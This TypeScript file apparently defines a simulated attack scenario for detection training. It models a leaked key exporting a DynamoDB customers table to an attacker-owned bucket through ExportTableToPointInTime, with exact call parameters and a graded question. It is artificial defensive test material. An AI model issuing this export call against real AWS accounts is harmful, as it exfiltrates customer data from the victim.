/**
 * Playbook: export a table to another account (MITRE T1537).
 *
 * Point-in-time export can write to a bucket in any account (S3BucketOwner). The attacker
 * exports the customers table to their own bucket.
 *
 * Detection: no SigmaHQ rule; the example detection `aws-dynamodb-export-to-other-account`
 * (detections/exfiltration.ts).
 */
import { defineScenario } from 'trailsim';
import { ATTACKER_ACCOUNT, actor, trace, victim, first } from './_kit.js';

export default defineScenario({
  name: 'attack-dynamodb-export',
  title: 'DynamoDB table exported to another account\'s bucket',
  description: 'A leaked key exports a DynamoDB table with ExportTableToPointInTime straight to a bucket owned by the attacker\'s account.',
  attack: { techniques: ['T1537'], tactics: ['exfiltration'] },
  references: [
    'https://attack.mitre.org/techniques/T1537/',
    'https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/S3DataExport.HowItWorks.html',
  ],
  seed: 5050,
  start: '2026-06-22T06:00:00Z',
  targets: [],
  run({ sim, log, answer }) {
    const ip = sim.attackerIp();
    const acct = victim(sim);
    const user = acct.iamUser('data-export');
    const act = actor(sim, user, ip);
    log(`account ${acct.id}; key of ${user.arn} used from ${ip}`);

    sim.advanceTo('2026-06-22T13:33:00Z');
    const table = first(acct, 'AWS::DynamoDB::Table', 'customers', 'us-east-1');
    act('dynamodb:ListTables');
    sim.advance('30s');
    act('dynamodb:ExportTableToPointInTime', { tableArn: `arn:aws:dynamodb:us-east-1:${acct.id}:table/${table}`, s3Bucket: 'drop-7f3a91c2', s3BucketOwner: ATTACKER_ACCOUNT, exportFormat: 'DYNAMODB_JSON' }, { exactParams: true, response: null });

    sim.advanceTo('2026-06-22T15:00:00Z');
    answer('Which tables were exported, where?', trace(sim, ip));
  },
});
